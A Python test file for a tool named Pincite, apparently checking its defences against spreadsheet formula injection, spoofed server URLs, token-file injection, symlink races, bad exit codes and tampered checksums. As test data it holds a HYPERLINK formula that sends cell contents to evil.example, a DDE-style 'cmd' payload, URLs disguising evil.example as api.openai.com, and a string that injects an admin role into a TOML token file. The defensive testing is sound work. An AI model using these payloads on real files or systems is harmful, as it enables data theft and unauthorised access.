"""Spreadsheets, found files, consent, locks, exit codes and checksums, each used against who runs Pincite."""

import csv
import io
import json
import os
import sqlite3
import threading
from contextlib import closing
from pathlib import Path

import pytest

from pincite.errors import PinciteError
from pincite.formats.spreadsheet import csv_text, inert, restored
from pincite.serve.door.access import new_token
from pincite.settings import load
from pincite.storage.disk import write
from pincite.types import Query
from pincite.workbench.grid import Filled, Grid, spec_from, write_grid
from pincite.workbench.library import index

ROOT = Path(__file__).parents[3]
RUNS = ("=", "+", "-", "@", "＝", "＋", "－", "＠", "\t", "\r")
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


# ---- spreadsheets


@pytest.mark.parametrize("text", [
    "a;=1+1;b", "x; @SUM(1)", "1;+cmd|' /C calc'!A0;", "a;\t=1", 'say "hi";=1', "a;;=1", ";=1", "a;'=1", "＝1;＝1",
    "5;-2+3;x",
])  # fmt: skip
def test_no_cell_is_a_formula_where_semicolons_part_cells(text):
    """A text holds a semicolon and then a formula, for the countries whose spreadsheets part cells there: it stays a text."""
    line = csv_text([["plain", text, "end"]])
    for mark in (",", ";"):
        for cell in next(csv.reader(io.StringIO(line), delimiter=mark)):
            assert not cell.strip('"').lstrip(" ").startswith(RUNS), cell
    assert restored(inert(text)) == text


def test_a_workbook_of_a_grid_holds_no_formula_and_no_link_of_a_document(tmp_path):
    """The rows, headings, values and notes of a grid are formulas: no cell of its workbook is one, and none links elsewhere."""
    openpyxl = pytest.importorskip("openpyxl")
    spec = spec_from(
        {"title": FORMULA, "entity": FORMULA, "rows": [FORMULA], "columns": [{"name": FORMULA, "question": "What?"}]},
    )  # fmt: skip
    query = Query(FORMULA)
    one = Filled(
        FORMULA, FORMULA, "0", query, "supported", FORMULA, FORMULA, FORMULA, FORMULA, reason=FORMULA,
    )  # fmt: skip
    write_grid(Grid("x", spec, ((one,),)), tmp_path / "grid.xlsx")
    book = openpyxl.load_workbook(tmp_path / "grid.xlsx")
    cells = [
        cell
        for sheet in book
        for row in sheet.iter_rows()
        for cell in row
        if cell.value is not None
    ]
    assert any("evil.example" in str(cell.value) for cell in cells)
    assert not [
        cell
        for cell in cells
        if cell.data_type == "f" or (cell.hyperlink and "evil" in str(cell.hyperlink.target))
    ]
    assert not book.defined_names


# ---- what lies in the folder that one works in


@pytest.mark.parametrize("file", ["pincite.toml", "units.toml"])
def test_a_pipe_among_the_settings_is_not_waited_for(tmp_path, monkeypatch, file, example_corpus):
    """The settings that lie in a folder, or the units that they name, are a pipe: nobody waits for it."""
    from pincite.workbench.library import Library

    monkeypatch.chdir(tmp_path)
    if file == "units.toml":
        (tmp_path / "pincite.toml").write_text('[pincite]\nunits = "units.toml"\n')
    os.mkfifo(tmp_path / file)
    told = []

    def run():
        try:
            told.append(Library(example_corpus, load()))
        except PinciteError as error:
            told.append(error)

    asking = threading.Thread(target=run, daemon=True)
    asking.start()
    asking.join(8)
    waited = asking.is_alive()
    if waited:
        os.close(os.open(tmp_path / file, os.O_RDWR | os.O_NONBLOCK))
        asking.join(5)
    assert told and not waited


@pytest.mark.parametrize("url, host", [
    ("https://api.openai.com@evil.example/v1", "evil.example"),
    ("https://api.openai.com:443@evil.example/v1", "evil.example"),
    ("https://evil.example/api.openai.com/v1", "evil.example"), ("https://аpi.openai.com/v1", "\\u0430pi.openai.com"),
    ("https://evil.example#api.openai.com", "evil.example"),
    ("https://evil.example?@api.openai.com/", "evil.example"),
])  # fmt: skip
def test_consent_names_the_host_that_is_really_reached(tmp_path, monkeypatch, url, host):
    """A found file names a server so that it reads as another one: what is asked before anything is sent names the true one."""
    monkeypatch.chdir(tmp_path)
    monkeypatch.delenv("PINCITE_TRUST", raising=False)
    (tmp_path / "pincite.toml").write_text(f'[models]\nbase_url = "{url}"\nlarge = "x"\n')
    with pytest.raises(PinciteError) as asked:
        load()
    assert f'sends questions and passages to "{host}"' in str(asked.value)
    assert str(asked.value).isascii()


@pytest.mark.parametrize("change", ["host", "key", "path", "folder", "role"])
def test_consent_to_one_thing_is_none_to_another(tmp_path, monkeypatch, change):
    """After one agreed, the file is changed to reach another host, key or model, or copied elsewhere: it is asked again."""
    from pincite import consent
    from pincite.errors import ConsentMissing

    said = '[models]\nbase_url = "https://fine.example/v1"\nkey = "A_KEY"\nlarge = "x"\n'
    first, second = tmp_path / "a", tmp_path / "b"
    for folder in (first, second):
        folder.mkdir()
        (folder / "pincite.toml").write_text(said)
    monkeypatch.setenv("PINCITE_TRUST", "")
    monkeypatch.chdir(first)
    with pytest.raises(ConsentMissing) as missing:
        load()
    consent.agree(missing.value)
    assert load().models.large == "x"
    changed = {
        "host": ("fine", "evil"), "key": ("A_KEY", "AWS_SECRET"), "path": ("/v1", "/v2"), "role": ("large", "small"),
    }  # fmt: skip
    if change == "folder":
        monkeypatch.chdir(second)
    else:
        (first / "pincite.toml").write_text(said.replace(*changed[change]))
    with pytest.raises(ConsentMissing):
        load()


# ---- exit codes


@pytest.mark.parametrize("words", [
    ["search", "x", "-k", "9" * 400], ["search", "x", "-k", "-1"], ["serve", "--port", "99999999"],
    ["serve", "--port", "-1"], ["ask", "x", "--as-of", "99999-01"], ["ask", "x" * 2_001],
    ["ask", "x", "--where", "nothing=1"], ["grid", "missing.yaml", "--out", "a.xlsx"],
    ["bundle", "0" * 12, "--out", "e.zip"], ["show", "0" * 12, "--out", "p.png"], ["sql", "--run", "DROP TABLE x"],
], ids=lambda words: " ".join(words)[:24])  # fmt: skip
def test_what_did_not_work_never_exits_as_if_it_had(
    pincite, example_corpus, tmp_path, monkeypatch, words
):
    """A command is given what cannot be: it says so, without a traceback and with another exit code than 0, also as JSON."""
    monkeypatch.chdir(tmp_path)
    for more in ([], ["--json"]):
        if more and words[0] in ("serve",):
            continue
        code, out, err = pincite(*words, *more, "--corpus", example_corpus)
        assert code != 0 and err.strip() and "Traceback" not in out + err, (code, out, err)
        assert not out.strip() or isinstance(json.loads(out), dict | list)


# ---- files, locks, checksums


@pytest.mark.parametrize("name", ["out.csv", ".out.half.csv", "lock", "grid-x.lock"])
def test_a_link_that_waits_where_something_is_written_gets_nothing(
    fresh_corpus, tmp_path, examples, name
):
    """A link to the user's file waits where Pincite writes a file half, or locks: that file stays as it is."""
    mine = tmp_path / "mine"
    mine.write_text("precious")
    if name == ".out.half.csv":
        (tmp_path / name).symlink_to(mine)
        write(tmp_path / "out.csv", "x")
        assert (tmp_path / "out.csv").read_text() == "x"
        assert not (tmp_path / "out.csv").is_symlink()
    elif name == "lock":
        (fresh_corpus / name).unlink(missing_ok=True)
        (fresh_corpus / name).symlink_to(mine)
        try:
            index(examples / "files", fresh_corpus)
        except (PinciteError, OSError):
            pass
    elif name == "grid-x.lock":
        from pincite.settings import Settings
        from pincite.workbench.grid import fill
        from pincite.workbench.library import Library

        (fresh_corpus / name).symlink_to(mine)
        try:
            fill(
                spec_from({"title": "x", "rows": ["Halvorsen Maritime"], "columns": ["Revenue"]}),
                Library(fresh_corpus, Settings()),
            )
        except (PinciteError, OSError):
            pass
    else:
        (tmp_path / "made").mkdir()
        write(tmp_path / "made" / name, "x")
        assert (tmp_path / "made" / name).read_text() == "x"
    assert mine.read_text() == "precious"


def test_a_file_of_tokens_is_nobody_elses_whoever_made_it(tmp_path):
    """A token is added under a mask that lets all read: the file of tokens is readable to its owner only, and stays so."""
    before = os.umask(0)
    try:
        new_token("anna", "reader", [], tmp_path / "tokens.toml")
        new_token("ben", "admin", ["a", "b"], tmp_path / "tokens.toml")
        write(tmp_path / "open.txt", "x")
    finally:
        os.umask(before)
    assert (tmp_path / "tokens.toml").stat().st_mode & 0o777 == 0o600
    assert (
        tmp_path / "open.txt"
    ).stat().st_mode & 0o777 == 0o666  # which the mask would have let through


@pytest.mark.parametrize(
    "name", ['x"]\nrole = "admin"\n[eve]\nsha256 = "' + "0" * 64, "\\", '"', "a\nb", "\x00"]
)
def test_the_name_of_a_corpus_adds_nobody_to_the_tokens(tmp_path, name):
    """The name of a corpus, perhaps that of a stranger's folder, is made to end the text it is written in: nobody is added."""
    from pincite.serve.door.access import read_tokens

    file = tmp_path / "tokens.toml"
    try:
        new_token("anna", "reader", [name], file)
    except PinciteError:
        assert not file.exists() or not file.read_text()
        return
    (anna,) = read_tokens(file).people.values()
    assert (anna.name, anna.role, anna.corpora) == ("anna", "reader", frozenset([name]))


@pytest.mark.parametrize(
    "table", ["nodes", "documents", "files", "generations", "pages", "a source"]
)
def test_a_flipped_letter_anywhere_is_found_when_it_is_looked_for(pincite, fresh_corpus, table):
    """A letter is changed in one table of a corpus, or in a source: `doctor --verify` says so and exits with 1."""
    if table == "a source":
        path = next((fresh_corpus / "sources").iterdir())
        body = bytearray(path.read_bytes())
        body[len(body) // 2] ^= 1
        path.write_bytes(body)
    else:
        column = {
            "nodes": "text = text || 'x'",
            "documents": "title = title || 'x'",
            "files": "reason = 'x'",
            "pages": "nodes = nodes + 1",
            "generations": "published = '2030'",
        }[table]
        with closing(sqlite3.connect(fresh_corpus / "corpus.sqlite")) as db, db:
            assert db.execute(
                f"UPDATE {table} SET {column} WHERE rowid = (SELECT min(rowid) FROM {table})"
                if table != "pages"
                else f"UPDATE pages SET {column} WHERE page = 2"
            ).rowcount
    code, out, err = pincite("doctor", "--corpus", fresh_corpus, "--verify")
    assert code != 0 and "Traceback" not in out + err and (out or err)


def test_the_locks_of_a_release_name_no_other_place_and_hash_all():
    """A lock file could name another index, an address, or a package without its hash: each entry is pinned and hashed."""
    for name in ("requirements.lock", "requirements-all.lock"):
        entries = (ROOT / name).read_text().replace("\\\n", " ").splitlines()
        held = [one for one in entries if one.strip() and not one.lstrip().startswith("#")]
        assert len(held) > 20
        for one in held:
            assert (
                "==" in one
                and "--hash=sha256:" in one
                and "://" not in one
                and not one.startswith("-")
            ), one[:80]
        assert all(
            len(part) == 64
            for one in held
            for part in [word.partition("sha256:")[2] for word in one.split() if "sha256:" in word]
        )
